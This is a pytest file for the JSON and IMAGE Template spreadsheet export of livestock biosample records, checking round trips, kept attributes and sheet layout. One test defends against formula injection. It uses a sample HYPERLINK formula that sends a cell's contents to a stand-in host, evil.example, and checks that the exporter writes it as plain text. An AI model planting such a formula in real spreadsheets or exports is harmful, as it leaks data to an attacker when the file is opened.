"""Export round trips: records → JSON / IMAGE Template → parse gives the records back."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest

from chalicelib.ingest import parse_file
from chalicelib.ingest.export import to_json, to_template_xlsx
from chalicelib.ingest.generate import generate
from chalicelib.records import (
    AttributeValue,
    Material,
    Record,
    Relationship,
    RelationshipType,
)

GENERATED = [("cryoweb", "sql"), ("template", "xlsx"), ("crbanim", "csv"),
             ("biosamples", "json")]

#: what the IMAGE Template carries (see chalicelib/ingest/export.py for what it does not)
ANIMAL_ATTRS = frozenset({
    "Data source ID", "Description", "Alternative id", "Sex", "Birth location",
    "Birth location accuracy", "Species", "Supplied breed", "EFABIS Breed country",
    "Birth date", "Birth location longitude", "Birth location latitude"})
SAMPLE_ATTRS = frozenset({
    "Data source ID", "Alternative id", "Description", "Specimen collection protocol",
    "Availability", "Collection place", "Collection place accuracy", "Organism part",
    "Developmental stage", "Physiological stage", "Sample storage",
    "Sample storage processing", "Collection date", "Collection place latitude",
    "Collection place longitude", "Animal age at collection",
    "Sampling to preparation interval", "Species"})


def _generated(tmp_path: Path, fmt: str, ext: str) -> list[Record]:
    path = tmp_path / f"gen.{ext}"
    generate(60, 2, fmt, 5, path)
    result = parse_file(path)
    assert result.ok and result.records
    return result.records


def handmade() -> list[Record]:
    """Records of every shape: parents in the file and in BioSamples, partial dates,
    coordinates written with trailing zeros, durations, terms, accessions, extra values."""
    sire = Record("SIRE", Material.ORGANISM, accession="SAMEA100")
    sire.attributes = {
        "Data source ID": [AttributeValue("SIRE")],
        "Species": [AttributeValue("Bos taurus", None, ("NCBITaxon_9913",))],
        "Supplied breed": [AttributeValue("Podolica")],
        "EFABIS Breed country": [AttributeValue("Italy")],
        "Sex": [AttributeValue("male", None, ("PATO_0000384",))],
        "Birth date": [AttributeValue("1999", "YYYY")],
        "Birth location": [AttributeValue("Potenza, Basilicata")],
        "Birth location latitude": [AttributeValue("40.6400", "decimal degrees")],
        "Birth location longitude": [AttributeValue("-15.8", "decimal degrees")],
        "Birth location accuracy": [AttributeValue("precise coordinates")],
        "Project": [AttributeValue("IMAGE")],
    }
    calf = Record("CALF é", Material.ORGANISM, relationships=[
        Relationship(RelationshipType.CHILD_OF, "SIRE"),
        Relationship(RelationshipType.CHILD_OF, "SAMEA6376992")])
    calf.attributes = {
        "Data source ID": [AttributeValue("CALF é")],
        "Alternative id": [AttributeValue("0042")],
        "Description": [AttributeValue("born; \"twin\" & <healthy>")],
        "Species": [AttributeValue("Bos taurus")],
        "Supplied breed": [AttributeValue("Podolica")],
        "EFABIS Breed country": [AttributeValue("Italy")],
        "Sex": [AttributeValue("female")],
        "Birth date": [AttributeValue("2003-01", "YYYY-MM")],
        "Birth location accuracy": [AttributeValue("missing geographic information")],
    }
    semen = Record("S1", Material.SPECIMEN, relationships=[
        Relationship(RelationshipType.DERIVED_FROM, "SIRE")])
    semen.attributes = {
        "Data source ID": [AttributeValue("S1")],
        "Alternative id": [AttributeValue("straw 1")],
        "Species": [AttributeValue("Bos taurus", None, ("NCBITaxon_9913",))],
        "Organism part": [AttributeValue("semen", None, ("UBERON_0001968",)),
                          AttributeValue("sperm")],
        "Specimen collection protocol": [AttributeValue("https://example.org/p.pdf")],
        "Availability": [AttributeValue("mailto:bank@example.org")],
        "Collection date": [AttributeValue("2004-01-13", "YYYY-MM-DD")],
        "Collection place": [AttributeValue("Mariensee")],
        "Collection place latitude": [AttributeValue("52.5", "decimal degrees")],
        "Collection place longitude": [AttributeValue("9.47", "decimal degrees")],
        "Collection place accuracy": [AttributeValue("precise coordinates")],
        "Developmental stage": [AttributeValue("adult")],
        "Physiological stage": [AttributeValue("mature")],
        "Animal age at collection": [AttributeValue("4.5", "year")],
        "Sampling to preparation interval": [AttributeValue("2", "hour")],
        "Sample storage": [AttributeValue("frozen, liquid nitrogen")],
        "Sample storage processing": [
            AttributeValue("cryopreservation in liquid nitrogen (dead tissue)")],
        "Publication DOI": [AttributeValue("10.1139/o09-005")],
    }
    blood = Record("S2", Material.SPECIMEN, relationships=[
        Relationship(RelationshipType.DERIVED_FROM, "SAMEA6376980")])
    blood.attributes = {
        "Data source ID": [AttributeValue("S2")],
        "Organism part": [AttributeValue("blood")],
        "Collection date": [AttributeValue("2020", "YYYY")],
        "Collection place accuracy": [AttributeValue("missing geographic information")],
    }
    return [sire, calf, semen, blood]


def template_view(records: list[Record]) -> dict[str, Record]:
    """What the IMAGE Template can carry of the records, by id."""
    animals = {r.id: r for r in records if r.material is Material.ORGANISM}
    # sheet 'breed' has one EFABIS country per (breed, species): the first animal's
    countries: dict[tuple[str, str], list[AttributeValue]] = {}
    for rec in animals.values():
        breed, species = rec.first("Supplied breed"), rec.first("Species")
        if breed and species:
            countries.setdefault((breed.value.lower(), species.value.lower()), [
                AttributeValue(v.value) for v in rec.attributes.get("EFABIS Breed country",
                                                                    [])[:1]])
    out: dict[str, Record] = {}
    for rec in records:
        animal = rec.material is Material.ORGANISM
        keep = ANIMAL_ATTRS if animal else SAMPLE_ATTRS
        attrs = {name: [AttributeValue(values[0].value, values[0].units)]
                 for name, values in rec.attributes.items() if name in keep and values}
        if animal:
            rels = [r for r in rec.relationships if r.type is RelationshipType.CHILD_OF][:2]
            breed, species = rec.first("Supplied breed"), rec.first("Species")
            if breed and species:
                attrs.pop("EFABIS Breed country", None)
                country = countries[(breed.value.lower(), species.value.lower())]
                if country:
                    attrs["EFABIS Breed country"] = country
        else:
            rels = [r for r in rec.relationships
                    if r.type is RelationshipType.DERIVED_FROM][:1]
            attrs.pop("Species", None)
            source = animals.get(rels[0].target) if rels else None
            if source is not None and source.attributes.get("Species"):
                attrs["Species"] = [AttributeValue(source.attributes["Species"][0].value)]
        out[rec.id] = Record(rec.id, rec.material, attrs, rels)
    return out


def _read_back(tmp_path: Path, data: bytes, name: str) -> list[Record]:
    path = tmp_path / name
    path.write_bytes(data)
    result = parse_file(path)
    assert result.problems == [], result.problems[:3]
    return result.records


@pytest.mark.parametrize(("fmt", "ext"), GENERATED)
def test_json_round_trip_is_exact(tmp_path: Path, fmt: str, ext: str) -> None:
    records = _generated(tmp_path, fmt, ext)
    assert _read_back(tmp_path, to_json(records), "export.json") == records


def test_json_round_trip_of_every_shape(tmp_path: Path) -> None:
    records = handmade()
    data = to_json(records)
    assert data.startswith(b'{"records": [') and "CALF é".encode() in data
    back = _read_back(tmp_path, data, "export.json")
    assert back == records
    assert back[0].accession == "SAMEA100"
    assert back[2].attributes["Organism part"][0].terms == ("UBERON_0001968",)
    assert _read_back(tmp_path, to_json([]), "empty.json") == []


def test_template_round_trip_of_a_template_is_exact(tmp_path: Path) -> None:
    records = _generated(tmp_path, "template", "xlsx")
    assert any(len(r.relationships) == 2 for r in records)
    assert any("Birth location latitude" in r.attributes for r in records)
    assert any("Animal age at collection" in r.attributes for r in records)
    assert _read_back(tmp_path, to_template_xlsx(records), "export.xlsx") == records


@pytest.mark.parametrize(("fmt", "ext"), GENERATED)
def test_template_round_trip_keeps_what_the_template_carries(
        tmp_path: Path, fmt: str, ext: str) -> None:
    records = _generated(tmp_path, fmt, ext)
    back = _read_back(tmp_path, to_template_xlsx(records), "export.xlsx")
    assert {r.id: r for r in back} == template_view(records)


def test_template_round_trip_of_every_shape(tmp_path: Path) -> None:
    records = handmade()
    back = {r.id: r for r in _read_back(tmp_path, to_template_xlsx(records), "export.xlsx")}
    assert back == template_view(records)
    sire, calf, semen, blood = (back[k] for k in ("SIRE", "CALF é", "S1", "S2"))
    # carried
    assert sire.first("Birth location latitude") == AttributeValue("40.6400", "decimal degrees")
    assert sire.first("Birth date") == AttributeValue("1999", "YYYY")
    assert calf.first("Birth date") == AttributeValue("2003-01", "YYYY-MM")
    assert calf.first("Alternative id") == AttributeValue("0042")
    assert calf.relationships == [Relationship(RelationshipType.CHILD_OF, "SIRE"),
                                  Relationship(RelationshipType.CHILD_OF, "SAMEA6376992")]
    assert blood.relationships == [Relationship(RelationshipType.DERIVED_FROM,
                                                "SAMEA6376980")]
    assert semen.first("Animal age at collection") == AttributeValue("4.5", "year")
    assert semen.first("Species") == AttributeValue("Bos taurus")
    # not carried: accession, terms, extra values, attributes without a column
    assert sire.accession is None and "Project" not in sire.attributes
    assert sire.first("Sex") == AttributeValue("male")
    assert semen.attributes["Organism part"] == [AttributeValue("semen")]
    assert "Publication DOI" not in semen.attributes


def test_template_export_sheets(tmp_path: Path) -> None:
    data = to_template_xlsx(handmade())
    path = tmp_path / "export.xlsx"
    path.write_bytes(data)
    import openpyxl

    wb = openpyxl.load_workbook(path, read_only=True)
    assert wb.sheetnames == ["breed", "animal", "sample"]
    breed_rows = list(wb["breed"].iter_rows(values_only=True))
    assert breed_rows == [("Supplied breed", "EFABIS Breed country", "Species"),
                          ("Podolica", "Italy", "Bos taurus")]
    animal_rows = list(wb["animal"].iter_rows(values_only=True))
    assert [r[0] for r in animal_rows[1:]] == ["SIRE", "CALF é"]
    wb.close()
    with zipfile.ZipFile(path) as zf:
        assert "xl/worksheets/sheet3.xml" in zf.namelist()


FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"x")'


def test_template_export_writes_formulas_and_error_codes_as_text(tmp_path: Path) -> None:
    """openpyxl's write-only append made a string starting with '=' a live formula."""
    animal = handmade()[0]
    animal.attributes["Description"] = [AttributeValue(FORMULA)]
    animal.attributes["Supplied breed"] = [AttributeValue("=1+1")]
    animal.attributes["Birth location"] = [AttributeValue("#N/A")]
    path = tmp_path / "export.xlsx"
    path.write_bytes(to_template_xlsx([animal]))
    import openpyxl

    wb = openpyxl.load_workbook(path)
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type in ("f", "e")]
    assert {FORMULA, "=1+1", "#N/A"} <= {c.value for c in cells}
    with zipfile.ZipFile(path) as zf:
        assert not any(b"<f>" in zf.read(name) for name in zf.namelist()
                       if name.startswith("xl/worksheets/"))
    back = _read_back(tmp_path, path.read_bytes(), "again.xlsx")[0]
    assert back.first("Description") == AttributeValue(FORMULA)  # unchanged, as text
